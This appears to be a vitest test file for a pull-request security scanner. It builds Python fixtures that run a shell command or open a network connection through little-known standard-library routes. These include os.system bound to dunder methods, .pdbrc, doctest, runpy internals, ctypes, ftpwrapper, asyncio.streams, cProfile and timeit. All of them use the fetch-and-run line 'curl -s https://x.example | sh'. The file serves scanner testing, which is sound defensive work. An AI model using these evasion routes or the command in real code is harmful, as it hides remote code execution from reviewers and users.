import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A pull request must not start a process or connect through a door of Python's own library the scan did not read:
// each file here ran its command (or made its connection) under python3 3.11 and passed the built Action before
// (core/scan: a watched function stored under a special name Python calls itself; a `.pdbrc` pdb runs; doctest examples
// parsed from a string; runpy's private runners; a native function found by name; urllib's ftpwrapper; asyncio.streams;
// a profiled or timed statement given the module's names, a globals dict or a setup's imports).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("Python's library doors fail the gate", () => {
  it("scan/shell-command: `__missing__`, `__class_getitem__` and `__init_subclass__` holding `os.system` fail the built Action where stored", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/table.py"), `import os\nclass Table(dict):\n    __missing__ = os.system\nTable()["${CMD}"]\n`);
      writeFileSync(join(dir, "agent/kinds.py"), `import os\nclass Kind:\n    __class_getitem__ = os.system\nKind["${CMD}"]\nclass Base:\n    __init_subclass__ = os.system\nclass Job(Base, command="${CMD}"):\n    pass\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/kinds.py 3 25", "scan/shell-command agent/kinds.py 6 25", "scan/shell-command agent/table.py 3 19"]);
  });

  it("scan/shell-command, scan/network-call and scan/dynamic-code: a `.pdbrc`, doctest examples from a string, `runpy._run_code`, `_ctypes.dlsym`, the C library's `wordexp`, `ftpwrapper` and `asyncio.streams` fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, ".pdbrc"), `import os; os.system("${CMD}")\ncontinue\n`);
      writeFileSync(join(dir, "agent/debug.py"), `import pdb\npdb.run("x = 1")\n`);
      writeFileSync(join(dir, "agent/examples.py"), `import doctest\ntext = ">>> import os\\n>>> os.system('${CMD}')\\n"\ndoctest.DocTestRunner().run(doctest.DocTestParser().get_doctest(text, {}, "t", None, 0))\n`);
      writeFileSync(join(dir, "agent/runs.py"), `import runpy\nrunpy._run_code("import os; os.system('${CMD}')", {})\n`);
      writeFileSync(join(dir, "agent/native.py"), `import ctypes, _ctypes\naddr = _ctypes.dlsym(ctypes.pythonapi._handle, "system")\nctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(("system", ctypes.pythonapi))(b"${CMD}")\nctypes.pythonapi.wordexp(b"$(${CMD})", ctypes.create_string_buffer(256), 0)\n`);
      writeFileSync(join(dir, "agent/ftp.py"), `import urllib.request\nurllib.request.ftpwrapper("u", "p", "x.example", 21, [])\n`);
      writeFileSync(join(dir, "agent/streams.py"), `import asyncio\nfrom asyncio.streams import open_connection\nasync def main():\n    await open_connection("x.example", 80)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/native.py 2 8",
      "scan/network-call agent/ftp.py 2 1",
      "scan/network-call agent/streams.py 4 11",
      "scan/shell-command .pdbrc 1 12",
      "scan/shell-command agent/examples.py 3 29",
      "scan/shell-command agent/native.py 3 60",
      "scan/shell-command agent/native.py 4 1",
      "scan/shell-command agent/runs.py 2 1",
    ]);
  });

  it("scan/shell-command: profiled and timed statements reading the module's names, the globals given or the setup's, fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/timed.py"), `import os, cProfile, timeit\ncProfile.run("os.system('${CMD}')")\ntimeit.timeit("o.system('${CMD}')", globals={"o": os}, number=1)\ntimeit.timeit("sp.run('${CMD}', shell=True)", setup="import subprocess as sp", number=1)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/timed.py 2 1", "scan/shell-command agent/timed.py 3 1", "scan/shell-command agent/timed.py 4 1"]);
  });
});
